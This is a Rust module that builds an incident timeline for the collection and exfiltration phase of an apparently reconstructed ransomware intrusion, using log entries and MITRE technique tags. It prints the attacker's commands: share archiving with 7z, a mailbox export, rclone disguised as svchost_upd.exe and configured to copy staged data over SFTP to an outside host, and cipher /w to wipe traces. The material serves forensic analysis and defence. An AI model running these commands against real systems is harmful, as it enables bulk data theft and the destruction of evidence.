//! 24 to 28 September: what was collected and where it went.
//! The encryption that followed is in `encryption`.

use super::iocs::RCLONE;
use super::script::*;

/// Archives made on the file server: time, share, part, size in GB.
const ARCHIVES: [(&str, &str, u32, &str); 9] = [
    ("24 22:31:08.020", "legal$", 1, "18.2"),
    ("24 22:58:41.733", "legal$", 2, "7.9"),
    ("24 23:40:12.519", "hr$", 1, "11.6"),
    ("25 09:12:54.404", "crewing", 1, "24.0"),
    ("25 10:47:33.961", "crewing", 2, "24.0"),
    ("25 12:20:09.287", "crewing", 3, "9.3"),
    ("25 14:02:41.655", "customs", 1, "24.0"),
    ("25 15:51:28.142", "customs", 2, "16.8"),
    ("25 17:33:59.870", "finance", 1, "21.4"),
];

/// Transfers on Monday: time (UTC), remote folder, gigabytes sent.
const TRANSFERS: [(&str, &str, u64); 8] = [
    ("06:20:44.118", "bw/legal", 26),
    ("07:02:10.930", "bw/hr", 11),
    ("07:44:57.201", "bw/crewing/1", 24),
    ("08:51:03.648", "bw/crewing/2", 24),
    ("10:02:39.015", "bw/crewing/3", 9),
    ("11:30:18.472", "bw/customs/1", 24),
    ("13:05:50.337", "bw/customs/2", 16),
    ("14:41:26.709", "bw/finance", 21),
];

pub fn events() -> Vec<Told> {
    let mut events: Vec<Told> = ARCHIVES.iter().map(|(time, share, part, size)| archive(time, share, *part, size)).collect();
    events.extend(TRANSFERS.iter().map(|(time, folder, size)| transfer(time, folder, *size)));
    events.extend(around());
    events
}

fn archive(time: &str, share: &str, part: u32, size: &str) -> Told {
    let command = format!(r"7z.exe a -mx1 -v24g -pXXXX D:\tmp\{}.7z D:\shares\{share}\*", share.trim_end_matches('$'));
    at(&format!("09-{time} +02:00"), COLLECTION, format!("Share {share} packed, part {part} ({size} GB)"))
        .on(&["SRV-FILE-HAM", "adm-rvos"])
        .tags("t1560.001,staging")
        .color(if share == "hr$" { ORANGE } else { "" })
        .says(format!("`D:\\tmp\\{}.7z.{part:03}`, {size} GB. The password was on the command line: see raw.", share.trim_end_matches('$')))
        .sysmon(
            1,
            "SRV-FILE-HAM",
            &[("Image", r"C:\ProgramData\PortSync\7z.exe"), ("CommandLine", &command), ("User", r"BRACKWATER\adm-rvos")],
        )
}

fn transfer(time: &str, folder: &str, size: u64) -> Told {
    at(&format!("09-28 {time} +00:00"), EXFILTRATION, format!("Upload to {folder}: {size} GB to 198.51.100.23"))
        .on(&["SRV-FILE-HAM", "FW-HAM-EDGE"])
        .ioc(&["198.51.100.23", "svchost_upd.exe"])
        .tags("exfil,t1048.002,sftp")
        .color(RED)
        .firewall("fw-ham-edge", "10.40.1.21", "198.51.100.23", 22, "allow", (size * 1_073_741_824 + 118_004, 20_481_209))
}

fn around() -> Vec<Told> {
    vec![
        at("09-24 22:26:17.349 +02:00", COLLECTION, "Folder D:\\tmp made on the file server, listing of all shares written")
            .on(&["SRV-FILE-HAM"])
            .tags("t1083,staging")
            .says("`dir /s /b` over five shares gives `D:\\tmp\\all.txt`, 212 MB, **1,904,331 files**. Recovered from unallocated space.")
            .sysmon(1, "SRV-FILE-HAM", &[("Image", r"C:\Windows\System32\cmd.exe"), ("CommandLine", r"cmd /c dir /s /b D:\shares > D:\tmp\all.txt"), ("User", r"BRACKWATER\adm-rvos")]),
        at("09-25 12:44:02.930 +02:00", COLLECTION, "Payment run files copied from the finance workstation")
            .on(&["WKS-HAM-031", "k.brandt"])
            .tags("t1005,finance")
            .color(ORANGE)
            .says("Four SEPA files and the address book of the bank program. The bank was told on 29 September; **no payment was changed**.")
            .edr("WKS-HAM-031", "low", "Bulk read of documents by a remote session", r"C:\Windows\System32\robocopy.exe", r"robocopy C:\Zahlungen\2026 \\SRV-FILE-HAM\finance\_t /E /ZB"),
        at("09-25 16:10:44.518 +02:00", COLLECTION, "Mailbox of the legal department exported")
            .on(&["adm-rvos"])
            .tags("t1114.002,mail")
            .source("Mail audit")
            .says("`New-MailboxExportRequest` for *legal@brackwater.example*, 31 GB, to `\\\\SRV-FILE-HAM\\legal$\\m.pst`.")
            .raw(r#"{"CreationTime":"2026-09-25T14:10:44","Operation":"New-MailboxExportRequest","UserId":"adm-rvos","Parameters":[{"Name":"Mailbox","Value":"legal"},{"Name":"FilePath","Value":"\\\\SRV-FILE-HAM\\legal$\\m.pst"}]}"#),
        at("09-28 05:58:12.447 +00:00", EXECUTION, "rclone appears as svchost_upd.exe")
            .on(&["SRV-FILE-HAM"])
            .ioc(&["svchost_upd.exe", RCLONE])
            .tags("tool,t1036.005")
            .color(ORANGE)
            .flag()
            .key()
            .says("Hash of the official release 1.68; only the name is changed. Ends the silence of the week-end.")
            .sysmon(11, "SRV-FILE-HAM", &[("Image", r"C:\Windows\System32\mstsc.exe"), ("TargetFilename", r"C:\ProgramData\PortSync\svchost_upd.exe")]),
        at("09-28 06:04:58.011 +00:00", EXFILTRATION, "Configuration of rclone: remote \"tank\", SFTP, 8 transfers")
            .on(&["SRV-FILE-HAM"])
            .ioc(&["198.51.100.23", RCLONE])
            .tags("exfil,t1567")
            .color(RED)
            .flag()
            .key()
            .says("```ini\n[tank]\ntype = sftp\nhost = 198.51.100[.]23\nuser = bw\npass = (obscured, decoded: see evidence)\nshell_type = unix\n```\n\nThe command:\n\n`svchost_upd.exe copy D:\\tmp tank:bw --transfers 8 --bwlimit \"06:00,60M 18:00,0\" --ignore-existing -q`")
            .sysmon(1, "SRV-FILE-HAM", &[("Image", r"C:\ProgramData\PortSync\svchost_upd.exe"), ("CommandLine", r#"svchost_upd.exe copy D:\tmp tank:bw --transfers 8 --bwlimit "06:00,60M 18:00,0" --ignore-existing -q"#), ("User", r"BRACKWATER\adm-rvos")])
            .comment(3, "The limit of 60 MB/s is why the network team saw only a *busy Monday*."),
        at("09-28 09:15:00.000 +02:00", UNSPECIFIED, "Network monitoring: outbound traffic three times the usual")
            .on(&["FW-HAM-EDGE"])
            .source("Monitoring")
            .tags("alert,missed")
            .says("Mail to a shared mailbox that nobody reads since the reorganisation in June.")
            .raw("CRITICAL fw-ham-edge if=wan1 out=482Mbit/s threshold=160Mbit/s since=55m"),
        at("09-28 12:40:31.226 +02:00", EXFILTRATION, "Files of the team drive opened with the stolen portal password")
            .on(&["k.brandt"])
            .ioc(&["192.0.2.77"])
            .tags("exfil,cloud,t1530")
            .source("Cloud audit")
            .raw(r#"{"CreationTime":"2026-09-28T10:40:31","Operation":"FileDownloaded","UserId":"k.brandt@brackwater.example","ClientIP":"192.0.2.77","SourceFileName":"Reederei_Verträge_2026.zip"}"#),
        at("09-28 16:02:40.903 +00:00", EXFILTRATION, "Total sent to 198.51.100.23: 157 GB in 8 transfers")
            .on(&["SRV-FILE-HAM", "FW-HAM-EDGE"])
            .ioc(&["198.51.100.23"])
            .tags("exfil,summary")
            .color(RED)
            .key()
            .says("| Folder | GB | Personal data |\n|---|---:|---|\n| legal | 26 | some |\n| hr | 11 | **yes, 1,140 employees** |\n| crewing | 57 | **yes, passports of 2,900 seafarers** |\n| customs | 40 | some |\n| finance | 21 | bank details |\n\nThe sum of the session logs is 155 GB; the rest is overhead of SFTP. *Data protection officer informed on 30 September.*")
            .source("Analysis"),
        at("09-28 18:11:03.560 +02:00", DEFENSE_EVASION, "Archives in D:\\tmp deleted and free space overwritten")
            .on(&["SRV-FILE-HAM"])
            .tags("t1070.004")
            .says("`cipher /w:D:\\tmp`, stopped after 20 minutes. `all.txt` could be recovered.")
            .sysmon(1, "SRV-FILE-HAM", &[("Image", r"C:\Windows\System32\cipher.exe"), ("CommandLine", r"cipher /w:D:\tmp"), ("User", r"BRACKWATER\adm-rvos")]),
    ]
}
